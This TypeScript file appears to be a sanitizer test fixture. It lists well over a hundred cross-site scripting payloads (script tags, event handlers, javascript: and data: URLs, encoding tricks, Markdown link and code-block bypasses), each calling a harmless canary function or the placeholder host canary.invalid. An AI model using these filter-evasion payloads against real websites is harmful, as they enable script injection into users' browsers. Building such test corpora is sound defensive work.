/**
 * Texts that would run something, were any of a message taken for HTML, script, style or an address of script. Written after
 * the families of OWASP's filter evasion sheet, and what Markdown adds to them. What runs calls `hit`.
 */

/** Markup that runs by itself, by an event, or by being parsed twice. */
const ELEMENTS = String.raw`
<script>hit(1)</script>
<script>alert(1)</script>
<ScRiPt>hit(1)</sCrIpT>
<script >hit(1)</script >
<script/xss>hit(1)</script>
<script src=//canary.invalid/x.js></script>
<script src="data:text/javascript,hit(1)"></script>
<script type=module>hit(1)</script>
<scr<script>ipt>hit(1)</scr</script>ipt>
<<script>hit(1);//<</script>
<script>hit(1)//
<script\x20type="text/javascript">hit(1)</script>
</script><script>hit(1)</script>
"><script>hit(1)</script>
'><script>hit(1)</script>
--><script>hit(1)</script>
]]><script>hit(1)</script>
</title><script>hit(1)</script>
</textarea><script>hit(1)</script>
</style><script>hit(1)</script>
</noscript><script>hit(1)</script>
<noscript><p title="</noscript><img src=x onerror=hit(1)>">
<img src=x onerror=hit(1)>
<img src=x onerror="hit(1)">
<img src=x onerror='hit(1)'>
<img src=x:x onerror=hit(1)>
<IMG SRC=x OnErRoR=hit(1)>
<img/src=x/onerror=hit(1)>
<img src=x onerror=hit(1)//
<img src onerror=hit(1)>
<img """><script>hit(1)</script>">
<img src=/ onerror=hit(1)>
<img src="/" =_=" title="onerror='hit(1)'">
<img src=x onerror=&#104;&#105;&#116;&#40;&#49;&#41;>
<img src=x onerror=eval(atob('aGl0KDEp'))>
<img src=//canary.invalid/a.png>
<img src="http://canary.invalid/b.png">
<img srcset="//canary.invalid/c.png 1x">
<img src=x onload=hit(1) onerror=hit(2)>
<image src=x onerror=hit(1)>
<image/src/onerror=hit(1)>
<picture><source srcset=x><img onerror=hit(1)></picture>
<svg onload=hit(1)>
<svg/onload=hit(1)>
<svg onload=hit(1)//
<svg><script>hit(1)</script></svg>
<svg><script xlink:href=data:,hit(1) />
<svg><animate onbegin=hit(1) attributeName=x dur=1s>
<svg><set onbegin=hit(1) attributename=x>
<svg><a xlink:href="javascript:hit(1)"><text x=20 y=20>x</text></a>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit(1)</script></svg>#x">
<svg><style><img src=x onerror=hit(1)></style></svg>
<svg><foreignObject><body onload=hit(1)></foreignObject></svg>
<svg><title><style><img src=x onerror=hit(1)></style></title></svg>
<math><mtext><table><mglyph><style><img src=x onerror=hit(1)>
<math href="javascript:hit(1)">x</math>
<math><maction actiontype="statusline#" xlink:href="javascript:hit(1)">x</maction></math>
<body onload=hit(1)>
<body onpageshow=hit(1)>
<body background="javascript:hit(1)">
<html onmouseover=hit(1)>
<iframe src="javascript:hit(1)"></iframe>
<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>
<iframe src="data:text/html,<script>parent.hit(1)</script>"></iframe>
<iframe src=//canary.invalid/d></iframe>
<iframe onload=hit(1)></iframe>
<frameset><frame src="javascript:hit(1)"></frameset>
<embed src="javascript:hit(1)">
<embed src="data:image/svg+xml,<svg onload=hit(1) xmlns='http://www.w3.org/2000/svg'/>">
<object data="javascript:hit(1)"></object>
<object data="data:text/html,<script>parent.hit(1)</script>"></object>
<object type="text/x-scriptlet" data="//canary.invalid/e"></object>
<applet code="javascript:hit(1)"></applet>
<video src=x onerror=hit(1)></video>
<video><source onerror=hit(1)></video>
<video poster="javascript:hit(1)"></video>
<video autoplay onloadstart=hit(1) src=x></video>
<audio src=x onerror=hit(1)></audio>
<audio autoplay onloadstart=hit(1) src=x></audio>
<input autofocus onfocus=hit(1)>
<input type=image src=x onerror=hit(1)>
<button autofocus onfocus=hit(1)>x</button>
<button formaction="javascript:hit(1)">x</button>
<select autofocus onfocus=hit(1)><option>x</select>
<textarea autofocus onfocus=hit(1)></textarea>
<keygen autofocus onfocus=hit(1)>
<form action="javascript:hit(1)"><input type=submit></form>
<form id=x></form><button form=x formaction="javascript:hit(1)">x</button>
<isindex type=image src=x onerror=hit(1)>
<details open ontoggle=hit(1)>x</details>
<dialog open onclose=hit(1)></dialog>
<marquee onstart=hit(1)>x</marquee>
<marquee loop=1 width=0 onfinish=hit(1)>x</marquee>
<meter onmouseover=hit(1)>x</meter>
<div onmouseover=hit(1)>x</div>
<div onpointerenter=hit(1) style="position:fixed;inset:0">x</div>
<div style="background:url(javascript:hit(1))">x</div>
<div style="width:expression(hit(1))">x</div>
<div style="background-image:url(//canary.invalid/f)">x</div>
<p style="animation:x" onanimationstart=hit(1)>x</p>
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=hit(1)></p>
<style>@import '//canary.invalid/g.css';</style>
<style>*{background:url(//canary.invalid/h)}</style>
<style onload=hit(1)></style>
<link rel=stylesheet href="//canary.invalid/i.css">
<link rel=stylesheet href="data:text/css,*{x:expression(hit(1))}">
<link rel=import href="data:text/html,<script>hit(1)</script>">
<link rel=prefetch href="//canary.invalid/j">
<link rel=preload as=script href="//canary.invalid/k.js">
<meta http-equiv=refresh content="0;url=javascript:hit(1)">
<meta http-equiv=refresh content="0;url=//canary.invalid/l">
<meta http-equiv="Link" content="<//canary.invalid/m.css>;rel=stylesheet">
<base href="//canary.invalid/">
<base href="javascript:hit(1)//">
<table background="javascript:hit(1)"><tr><td>x</table>
<td background="//canary.invalid/n">
<a href="javascript:hit(1)">x</a>
<a href=javascript:hit(1)>x</a>
<a href=" javascript:hit(1)">x</a>
<a href="&#106;avascript:hit(1)">x</a>
<a href="java&#x09;script:hit(1)">x</a>
<a href="#" onclick=hit(1)>x</a>
<a autofocus tabindex=1 onfocus=hit(1)>x</a>
<a ping="//canary.invalid/o" href="#">x</a>
<template><script>hit(1)</script></template>
<template shadowrootmode=open><img src=x onerror=hit(1)></template>
<slot onslotchange=hit(1)></slot>
<portal src="//canary.invalid/p"></portal>
<xss contenteditable autofocus onfocus=hit(1)>x</xss>
<x onclick=hit(1) tabindex=1 id=x>x</x>
<xml id=x><i><![CDATA[<img src=x onerror=hit(1)>]]></i></xml>
<?xml version="1.0"?><html:script xmlns:html="http://www.w3.org/1999/xhtml">hit(1)</html:script>
<?import namespace=t implementation="#default#time2">
<!--[if gte IE 4]><script>hit(1)</script><![endif]-->
<!--><script>hit(1)</script>-->
<!-- --!><img src=x onerror=hit(1)>
<!DOCTYPE x [<!ENTITY y SYSTEM "//canary.invalid/q">]>&y;
<![CDATA[<script>hit(1)</script>]]>
<p id="</p><img src=x onerror=hit(1)>">
<listing>&lt;img src=x onerror=hit(1)&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=hit(1)>">
<plaintext><img src=x onerror=hit(1)>
&lt;script&gt;hit(1)&lt;/script&gt;
&#60;img src=x onerror=hit(1)&#62;
&#x3C;svg onload=hit(1)&#x3E;
%3Cscript%3Ehit(1)%3C/script%3E
\u003cscript\u003ehit(1)\u003c/script\u003e
+ADw-script+AD4-hit(1)+ADw-/script+AD4-
{{constructor.constructor('hit(1)')()}}
\${hit(1)}
#{hit(1)}
<%= hit(1) %>
javascript:hit(1)
"onmouseover="hit(1)
' onfocus=hit(1) autofocus '
__proto__[hit]=1
{"__html":"<img src=x onerror=hit(1)>"}
{"dangerouslySetInnerHTML":{"__html":"<svg onload=hit(1)>"}}
`;

/** Addresses that run or fetch something, in the disguises that filters were fooled with. */
const ADDRESSES = String.raw`
javascript:hit(1)
JavaScript:hit(1)
JAVASCRIPT:hit(1)
javascript://%0ahit(1)
javascript://canary.invalid/%0ahit(1)
javascript:/*--></title></style></textarea></script><svg/onload=hit(1)>*/
java%73cript:hit(1)
javascript&colon;hit(1)
javascript&#58;hit(1)
javascript&#x3a;hit(1)
&#106;avascript:hit(1)
&#x6A;&#x61;vascript:hit(1)
java&Tab;script:hit(1)
java&NewLine;script:hit(1)
&#1;javascript:hit(1)
\javascript:hit(1)
java\script:hit(1)
vbscript:hit(1)
livescript:hit(1)
data:text/html,<script>hit(1)</script>
data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=
data:image/svg+xml,<svg%20onload=hit(1)>
blob:http://127.0.0.1/x
filesystem:http://127.0.0.1/x
view-source:javascript:hit(1)
feed:javascript:hit(1)
jar:javascript:hit(1)
intent:#Intent;scheme=javascript;end
https://x"onmouseover="hit(1)
https://x'onfocus='hit(1)
https://x/<svg/onload=hit(1)>
mailto:x"onclick="hit(1)
`;

/** The ways in which Markdown takes an address. */
const WAYS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address}\n\n[x] ![x]`,
];

/** What only Markdown makes. */
const MARKDOWN: readonly string[] = [
  "```<script>hit(1)</script>\nx\n```",
  '```" onmouseover="hit(1)\nx\n```',
  "```js\nhit(1)\n```",
  "```html\n<img src=x onerror=hit(1)>\n```",
  "```xml\n<script>hit(1)</script>\n```",
  "```css\n*{background:url(//canary.invalid/r)}\n```",
  "`<img src=x onerror=hit(1)>`",
  "    <script>hit(1)</script>",
  "> <script>hit(1)</script>",
  "- <img src=x onerror=hit(1)>",
  "# <svg onload=hit(1)>",
  "||<img src=x onerror=hit(1)>||",
  "||[x](javascript:hit(1))||",
  "**<img src=x onerror=hit(1)>**",
  "~~<svg onload=hit(1)>~~",
  "|<script>hit(1)</script>|x|\n|-|-|\n|<img src=x onerror=hit(1)>|[x](javascript:hit(1))|",
  '[x](https://example.org "onmouseover=hit(1)")',
  "[x](https://example.org 'x\" onmouseover=\"hit(1)')",
  '![x" onerror="hit(1)](x)',
  '![x](x"onerror="hit(1))',
  '[x" onclick="hit(1)](https://example.org)',
  "[<img src=x onerror=hit(1)>](https://example.org)",
  "[![x](x onerror=hit(1))](javascript:hit(1))",
  "[x](https://example.org)(javascript:hit(1))",
  "[javascript:hit(1)]",
  "[x][javascript:hit(1)]",
  "[x]\n(javascript:hit(1))",
  "[x](\njavascript:hit(1))",
  "[x](javascript\n:hit(1))",
  "[x](\u0020javascript:hit(1))",
  "[x](\u00a0javascript:hit(1))",
  "[x](\u200bjavascript:hit(1))",
  "[x](java\u200bscript:hit(1))",
  "[x](ｊavascript:hit(1))",
  "[x](https://example.org/\u202ejavascript:hit(1))",
  "https://example.org/<img src=x onerror=hit(1)>",
  "https://example.org/'onmouseover='hit(1)",
  'https://example.org/"onmouseover="hit(1)',
  "<https://example.org/\"onmouseover='hit(1)'>",
  "www.example.org/<svg/onload=hit(1)>",
  "javascript:hit(1)@example.org",
  "x<y@example.org onclick=hit(1)>",
  "<b onclick=hit(1)>**x**</b>",
  "<div>\n\n[x](javascript:hit(1))\n\n<script>hit(1)</script>\n</div>",
  "<a href='\n\n'onclick=hit(1)>x</a>",
  "&lt;img src=x onerror=hit(1)&gt; *x*",
  "\\<img src=x onerror=hit(1)>",
  "<!--\n\n--><img src=x onerror=hit(1)>",
];

const lines = (of: string) => of.split("\n").filter((line) => line !== "");

export const PAYLOADS: readonly string[] = [
  ...lines(ELEMENTS),
  ...lines(ADDRESSES).flatMap((address) => WAYS.map((way) => way(address))),
  ...MARKDOWN,
];
